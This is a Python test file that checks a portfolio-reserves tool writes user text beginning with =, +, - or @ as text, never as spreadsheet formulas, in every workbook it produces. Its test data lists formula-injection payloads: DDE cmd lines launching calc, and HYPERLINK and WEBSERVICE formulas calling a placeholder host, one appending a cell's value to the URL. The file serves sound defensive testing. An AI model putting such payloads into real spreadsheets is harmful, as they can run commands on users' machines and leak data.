"""User text is always written as text (SPEC §1): no workbook the product writes holds a formula.

A portfolio whose every free text column starts with `=`, `+`, `-` or `@` (the forms a spreadsheet
takes for a formula: `=HYPERLINK(…)`, `=cmd|…`, `@SUM(…)`) goes through every writer — the
portfolio writer, the report, the proposal, the allocation, the template — and each workbook is
opened as XML: no cell has a formula, and the texts read back as they were written. The proposal
is read back by `reserves check` (the documented round trip).
"""

from __future__ import annotations

import re
import zipfile

import pytest

from helpers import ROOT, ballast, line, run_main, table

DATE = "2016-12-31"
HOSTILE_TEXTS = ['=HYPERLINK("http://exemple.invalid/?"&A1,"Cliquez")', "=cmd|' /C calc'!A0", "+1+cmd|' /C calc'!A0",
                 "-2+3", "@SUM(1+1)*cmd|' /C calc'!A0", "=1+1", '=WEBSERVICE("http://exemple.invalid")']


def _hostile_rows() -> list[list]:
    lines = []
    for k, text in enumerate(HOSTILE_TEXTS):
        lines.append(line(7, "10 000,00", label=text, emetteur=f"{text} émetteur {k}", commentaire=text))
    lines.append(line(9, "30 000,00", label="=immeuble", immeuble="=IMM-1"))
    lines.append(line(7, "60 000,00", label="@trop gros", emetteur="@Emetteur unique"))  # a breach: > 5 %
    lines.append(ballast("900 000,00", label="+OAT"))
    return table(*lines)


def write_xlsx(path, rows):
    """The rows as text cells (openpyxl alone would make each text starting with = a formula)."""
    import openpyxl

    wb = openpyxl.Workbook()
    ws = wb.active
    ws.title = "Portefeuille"
    for r in rows:
        ws.append(list(r))
    for row in ws.iter_rows():
        for cell in row:
            if cell.data_type == "f":
                cell.data_type = "s"
    wb.save(path)
    assert formulas(path) == []
    return path


def formulas(path) -> list[str]:
    """The formulas of every sheet of an .xlsx (the <f> elements)."""
    found = []
    with zipfile.ZipFile(path) as zf:
        for name in zf.namelist():
            if name.startswith("xl/worksheets/") and name.endswith(".xml"):
                found += [m.decode() for m in re.findall(rb"<f[ >][^<]*", zf.read(name))]
    return found


def texts(path) -> set[str]:
    import python_calamine as pc

    wb = pc.CalamineWorkbook.from_path(str(path))
    out = set()
    for name in wb.sheet_names:
        for row in wb.get_sheet_by_name(name).to_python():
            out |= {c for c in row if isinstance(c, str)}
    return out


@pytest.fixture(scope="module")
def hostile(tmp_path_factory):
    return write_xlsx(tmp_path_factory.mktemp("injection") / "portefeuille.xlsx", _hostile_rows())


def test_the_helper_keeps_every_formula_like_text_as_text(tmp_path):
    import openpyxl

    from reserves.portfolio.outputs import formula_like, save_workbook

    wb = openpyxl.Workbook()
    wb.active.append(HOSTILE_TEXTS + ["texte", 3, None])
    out = tmp_path / "t.xlsx"
    save_workbook(wb, out)
    assert formulas(out) == []
    assert set(HOSTILE_TEXTS) <= texts(out)
    back = openpyxl.load_workbook(out)
    cells = list(back.active.iter_rows(values_only=False))[0]
    for cell in cells[:len(HOSTILE_TEXTS)]:
        assert cell.data_type == "s" and cell.quotePrefix, cell.value  # Excel keeps it text when edited, too
    assert not cells[len(HOSTILE_TEXTS)].quotePrefix
    assert formula_like("=x") and formula_like("+x") and formula_like("-x") and formula_like("@x")
    assert not formula_like("x=1") and not formula_like(3)


def test_the_portfolio_writer(hostile, tmp_path):
    from reserves.portfolio.model import load
    from reserves.portfolio.writer import write_portfolio

    pf = load(hostile)
    out = tmp_path / "ecrit.xlsx"
    write_portfolio(pf, out)
    assert formulas(out) == []
    assert set(HOSTILE_TEXTS) <= texts(out)
    again = load(out)
    assert list(again.lines["label"]) == list(pf.lines["label"])
    assert list(again.lines["issuer"]) == list(pf.lines["issuer"])


def test_the_report(hostile, tmp_path):
    out = tmp_path / "rapport.xlsx"
    code, _, err = run_main(["report", str(hostile), "-o", str(out), "--date", DATE, "--sans-choc"])
    assert code == 1, err
    assert formulas(out) == []
    found = texts(out)
    assert any(t.startswith("=HYPERLINK") for t in found) and "=immeuble" in found


def test_the_proposal_and_its_round_trip(hostile, tmp_path):
    out = tmp_path / "proposition.xlsx"
    code, _, err = run_main(["optimize", str(hostile), "-o", str(out), "--date", DATE])
    assert code in (0, 1), err
    assert out.exists() and formulas(out) == []
    assert set(HOSTILE_TEXTS) <= texts(out)
    code, outj, err = run_main(["check", str(out), "--json", "--date", DATE])
    assert code == 0, err  # the proposal is compliant and reads back as a portfolio
    from reserves.portfolio.model import load

    labels = set(load(out).lines["label"])
    assert set(HOSTILE_TEXTS) <= labels
    report = tmp_path / "rapport.xlsx"  # and the report that shows the proposal
    code, _, err = run_main(["report", str(hostile), "-o", str(report), "--date", DATE, "--sans-choc",
                             "--proposition", str(out)])
    assert code == 1, err
    assert formulas(report) == []


def test_the_allocation_and_the_template(tmp_path):
    out = tmp_path / "allocation.xlsx"
    code, _, err = run_main(["allocate", str(ROOT / "samples" / "parametres_allocation.yaml"), "-o", str(out),
                             "--date", DATE])
    assert code == 0, err
    assert formulas(out) == []
    model = tmp_path / "modele.xlsx"
    code, _, err = run_main(["template", "-o", str(model)])
    assert code == 0, err
    assert formulas(model) == []


def test_a_text_that_looks_like_a_formula_is_read_as_text_not_refused(tmp_path):
    """The reader keeps the texts of a workbook written as text (inline strings starting with =)."""
    from reserves.portfolio.model import load

    path = write_xlsx(tmp_path / "p.xlsx", _hostile_rows())
    assert set(HOSTILE_TEXTS) <= set(load(path).lines["label"])


def test_the_web_downloads(hostile, tmp_path):
    """The report and the proposal the web pages serve are written by the same writers, through the web's own
    services: no formula either."""
    from constraints.checker import check
    from reserves.app.web import services
    from reserves.portfolio.model import load

    import datetime as dt

    pf = load(hostile)
    verdict = check(pf, date=dt.date(2016, 12, 31))
    report = services.write_report(pf, verdict, "xlsx", str(tmp_path / "resultats"), date=dt.date(2016, 12, 31))
    assert formulas(report) == [] and any(t.startswith("=HYPERLINK") for t in texts(report))
    proposal = services.rebalance(pf, {}, date=dt.date(2016, 12, 31))
    path = services.write_proposal(proposal, str(tmp_path / "resultats"))
    assert formulas(path) == [] and set(HOSTILE_TEXTS) <= texts(path)
